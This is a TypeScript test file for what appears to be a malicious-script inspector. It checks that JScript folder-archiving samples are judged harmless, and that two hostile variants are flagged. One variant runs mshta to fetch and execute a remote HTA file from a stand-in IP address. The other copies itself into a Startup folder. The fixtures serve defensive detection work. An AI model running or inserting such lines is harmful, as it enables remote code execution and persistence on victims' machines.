import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()
const found = (text: string) => {
  const { findings, obstacle } = inspect(Buffer.from(text), { name: 'a.js' })
  return findings.some(({ severity }) => severity === 'malicious') ? 'malicious' : (obstacle?.reason ?? null)
}

const walk = (body: string, last = ''): string => `var fso = new ActiveXObject("Scripting.FileSystemObject");
var moved = 0, failed = [];
function walk(folder, target) {
  if (!fso.FolderExists(target)) fso.CreateFolder(target);
  for (var e = new Enumerator(folder.Files); !e.atEnd(); e.moveNext()) {
    var file = e.item();
    if ((new Date() - new Date(file.DateLastModified)) / 86400000 <= 30) continue;
    try { ${body} moved++; } catch (x) { failed.push(file.Path + ": " + x.message); }
  }
  for (var s = new Enumerator(folder.SubFolders); !s.atEnd(); s.moveNext()) walk(s.item(), target + "\\\\" + s.item().Name);
}
walk(fso.GetFolder("D:\\\\Scans"), "D:\\\\Archiv\\\\" + new Date().getFullYear());
${last}
WScript.Echo(moved + " files moved, " + failed.length + " failed.\\n" + failed.join("\\n"));
`

suite('a script that calls itself for each folder', () => {
  test('is harmless if it moves old files', () =>
    assert.equal(found(walk('fso.MoveFile(file.Path, target + "\\\\" + moved + "_" + file.Name);')), null))
  test('is harmless if it writes a log', () =>
    assert.equal(
      found(
        walk(
          'fso.MoveFile(file.Path, target + "\\\\" + file.Name);',
          'var log = fso.OpenTextFile("C:\\\\Logs\\\\a.log", 8, true); log.WriteLine(moved + " moved"); log.Close();',
        ),
      ),
      null,
    ))
  test('is none if it starts what it puts together', () =>
    assert.equal(
      found(walk('new ActiveXObject("WScript.Shell").Run("mshta " + target.substr(0, 0) + "http://192.0.2.1/a.hta");')),
      'malicious',
    ))
  test('is none if it copies itself', () =>
    assert.notEqual(
      found(walk('fso.CopyFile(WScript.ScriptFullName, target + "\\\\Startup\\\\" + moved + ".js");')),
      null,
    ))
})
